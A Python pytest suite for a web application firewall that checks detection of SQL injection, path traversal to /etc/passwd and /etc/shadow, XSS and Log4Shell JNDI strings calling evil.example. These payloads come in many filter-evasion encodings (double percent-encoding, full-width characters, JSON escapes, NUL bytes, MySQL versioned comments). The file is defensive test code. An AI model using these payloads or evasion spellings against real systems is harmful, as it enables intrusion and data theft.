import json
from collections.abc import Callable
from urllib.parse import quote, urlencode

import pytest

from asgi_agents import AgentResponse, Block, RequestBodyChunkEvent
from example_app.waf import Waf
from example_app.waf_rules import CANDIDATE_RULES, RULES
from tests.support.examples import the_first_is_short
from tests.support.sample_events import head


async def _head(uri: str = "/", **headers: str) -> AgentResponse | None:
    return await Waf().on_request_headers(head("1", uri, {name: [value] for name, value in headers.items()}))


async def _body(data: bytes) -> AgentResponse | None:
    return await Waf().on_request_body_chunk(RequestBodyChunkEvent(correlation_id="1", data=data, is_last=True))


def _rules(response: AgentResponse | None) -> tuple[str, ...]:
    if response is None:
        return ()
    assert isinstance(response.decision, Block)
    assert response.decision.status == 403
    assert response.audit.tags[0] == "waf"
    return tuple(response.audit.rule_ids)


@pytest.mark.parametrize(
    ("query", "rule"),
    [
        ("1 UNION ALL SELECT password", "SQLI-01"),
        ("1+union%0aselect+1", "SQLI-01"),
        ("' or 1=1", "SQLI-02"),
        ("%2527%2520OR%2520%25271%2527%253D%25271", "SQLI-02"),
        ("1;drop table users", "SQLI-03"),
        ("../../boot", "TRAV-01"),
        ("..%5c..%5cboot", "TRAV-01"),
        ("/etc//passwd", "TRAV-02"),
        ("<ScRiPt>", "XSS-01"),
        ("<img src=x onerror = alert(1)>", "XSS-02"),
        ("JavaScript:alert(1)", "XSS-03"),
        ("${jndi:ldap://evil.example/a}", "JNDI-01"),
        ("${${::-j}ndi:ldap://evil.example/a}", "JNDI-01"),
    ],
)
async def test_attacks_are_found_in_uri_header_and_body(query: str, rule: str) -> None:
    assert _rules(await _head(f"/search?q={query}")) == (rule,)
    assert _rules(await _head(referer=query)) == (rule,)
    assert _rules(await _body(query.encode())) == (rule,)


# Of each rule: spellings that it has to recognise when they are normalised, and texts that resemble them.
SPELLINGS = {
    "SQLI-01": (
        ["union select 1", "UNION\tALL\nSELECT 1", "union/**/select", "union/*' or so*/all/**//**/select"],
        ["the union selected", "union, select", "reunion /* select */ x"],
    ),
    "SQLI-02": (
        ["' or 1=1", "x' OR '1'='1", "'/**/or/**/1/**/=/**/1", '" and a = a', "'or'a'='a"],
        ["it's 'this' or 'that'", "rock 'n' roll or 1=2", "' or a=b"],
    ),
    "SQLI-03": (
        ["1; drop table users", ";ALTER/**/DATABASE x", ";--\ntruncate table t"],
        ["drop the table; the other one", "; drop us a line", ";dropped table"],
    ),
    "TRAV-01": (["../../boot", "..\\..\\boot", "../etc/hosts", "..\\windows"], ["see ../README.md", "wait.../.. what"]),
    "TRAV-02": (["/etc/passwd", "/etc///shadow"], ["/etc/passwords", "/home/etc", "etc/shadow"]),
    "XSS-01": (["<script>", "<IFRAME src=//x>", "<object/data=x>"], ["< script", "<scripture>", "<embedded>"]),
    "XSS-02": (
        ["<img src=x onerror=f()>", "<svg/onload=f()>", "<a href='x'onclick=f()>", f"<a {'b' * 999}\nonfocus =f()>"],
        ["1 < 2 and on load = off", "<p>on click = 3", "<a month=may>", "<a onward=x>"],
    ),
    "XSS-03": (["javascript:alert(1)", "JavaScript: x"], ["javascript: ", "java script:x", "javascript is fun"]),
    "JNDI-01": (["${jndi:ldap://x}", "${ lower:j}", "${::-j}"], ["${price}", "$ {jndi:x}", "{jndi:x}"]),
}
ATTACKS = [(rule, text) for rule, (attacks, _) in SPELLINGS.items() for text in attacks]
HARMLESS = [text for _, harmless in SPELLINGS.values() for text in harmless]


def _json_escaped(text: str) -> str:
    return "".join(f"\\u{ord(char):04X}" for char in text)


def _full_width(text: str) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text)


def _mathematical(text: str) -> str:
    """Letters beyond the 16 bits of one escape: JSON takes a surrogate pair for each."""
    return "".join(chr(0x1D41A + ord(char) - ord("a")) if "a" <= char <= "z" else char for char in text)


BODY_ENCODINGS: dict[str, Callable[[str], bytes]] = {
    "as it is": str.encode,
    "latin-1 around it": lambda text: b"\xe9\xff" + text.encode() + b"\xa0",
    **{
        f"json in {encoding}": lambda text, encoding=encoding: json.dumps({"a": text}).encode(encoding)  # type: ignore[misc]
        for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be")
    },
    "utf-16 without json": lambda text: text.encode("utf-16"),
    "json escapes": lambda text: f'{{"a":"{_json_escaped(text)}"}}'.encode(),
    "json in json": lambda text: json.dumps(json.dumps([text])).encode(),
    "json escapes in utf-16": lambda text: f'{{"a":"{_json_escaped(text)}"}}'.encode("utf-16-le"),
    "json with surrogate pairs": lambda text: json.dumps([_mathematical(text.lower())]).encode(),
    "a form": lambda text: urlencode({"a": text}).encode(),
    "json in a form": lambda text: urlencode({"a": json.dumps([text])}).encode(),
    "percent-encoding in json": lambda text: json.dumps([quote(text, safe="")]).encode(),
    "percent-encoded twice": lambda text: quote(quote(text, safe=""), safe="").encode(),
    "full width": lambda text: _full_width(text).encode(),
    "full width, percent-encoded": lambda text: quote(_full_width(text)).encode(),
    "nul bytes": lambda text: "\0".join(text).encode(),
    "nul bytes, percent-encoded": lambda text: "%00".join(text).encode(),
}


def test_every_rule_has_spellings() -> None:
    assert set(SPELLINGS) == {rule.id for rule in RULES}


@pytest.mark.parametrize("encoding", BODY_ENCODINGS)
async def test_a_rule_recognises_its_spellings_in_every_encoding(encoding: str) -> None:
    for rule, text in ATTACKS:
        assert rule in _rules(await _body(BODY_ENCODINGS[encoding](text))), (rule, text)


@pytest.mark.parametrize("encoding", BODY_ENCODINGS)
async def test_harmless_texts_pass_in_every_encoding(encoding: str) -> None:
    for text in HARMLESS:
        assert _rules(await _body(BODY_ENCODINGS[encoding](text))) == (), text


async def test_a_rule_recognises_its_spellings_in_the_head() -> None:
    for rule, text in ATTACKS:
        for spelt in (quote(text), quote(quote(text)), quote(_full_width(text)), text.encode().decode("latin-1")):
            assert rule in _rules(await _head(f"/?q={spelt}")), (rule, spelt)
            assert rule in _rules(await _head(cookie=spelt)), (rule, spelt)
        assert rule in _rules(await _head(cookie=_full_width(text).encode().decode("latin-1"))), (rule, text)


@pytest.mark.parametrize(
    "data",
    [
        # An app that does one of two decodings sees what the other one would have destroyed.
        rb'{"a": "\u0075nion/*%2a%2f*/select"}',
        rb"..\..\boot",
        # Full-width characters end no comment.
        "union/*＊／*/select".encode(),
        # What looks like the beginning of a comment is none within quotes.
        b"a/*' union/*x*/select",
        b"union/*" + b"x" * 1000 + b"*/select",
        b"union/*!50000 all*/ /*!select*/ 1",
        b"/*!50000union*/ select",
        b"union -- x\nselect",
        b"union#x\nselect",
    ],
)
async def test_no_step_of_the_normalisation_hides_an_attack_from_the_rules(data: bytes) -> None:
    assert _rules(await _body(data)) in {("SQLI-01",), ("TRAV-01",)}


@pytest.mark.parametrize("data", [rb"\U0000003cscript>", rb"\x3cscript>", rb"\74script>", rb"\\u003cscript>"])
async def test_only_escapes_that_json_has_are_undone(data: bytes) -> None:
    # The last one is a backslash and letters; two decodings make a tag of it.
    assert _rules(await _body(data)) == (("XSS-01",) if data.startswith(rb"\\") else ())


async def test_all_broken_rules_are_named() -> None:
    response = await _body(b"<script>' or 1=1</script>")
    assert _rules(response) == ("SQLI-02", "XSS-01")
    assert response is not None
    assert response.audit.tags == ("waf", "sql-injection", "xss")


@pytest.mark.parametrize(
    "text",
    [
        "select a gift, or create one; drop us a line",
        "The union selected O'Reilly and Sons",
        "it's 'this' or 'that'",
        "see ./docs/../README.md",
        "1 < 2 and on load = off",
        "100% of ${price}",
        "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
        '"Chromium";v="130", "Not/A)Brand";v="8"',
        "\x00\xff\xfe",
    ],
)
async def test_ordinary_text_passes(text: str) -> None:
    assert await _head(f"/search?q={text}", referer=text) is None
    assert await _body(text.encode()) is None


async def test_large_bodies_are_judged_as_small_ones_are() -> None:
    assert _rules(await _body(b"x" * 200_000 + b"<script>")) == ("XSS-01",)


@pytest.mark.parametrize(
    "piece",
    the_first_is_short(
        [
            *(
                "'",
                "' or ",
                "'/*",
                "' or/*",
                "' or a",
                "union ",
                "union/*",
                "union/**//*",
                "union#",
                "; ",
                ";/**/",
                "; drop/*",
            ),
            *("../", "/etc/", "<a ", "<a /on", "<a onload ", "${", "${ ", "javascript: ", "/*", "/*!", "#\n"),
            *("%25", "%2525", "\\u005c", "\\", "\0", "a", " ", "\u0301", "\u0316\u0301", "\ufdfa", "\U0001f600"),
        ]
    ),
)
async def test_time_grows_with_the_length_and_not_faster(piece: str) -> None:
    # With the square of it this would take minutes.
    data = piece.encode()
    await _body(data * (100_000 // len(data)))
    await _body(data + b" " * 100_000)


def test_rule_ids_are_unique() -> None:
    ids = [rule.id for rule in (*RULES, *CANDIDATE_RULES)]
    assert len(set(ids)) == len(ids)
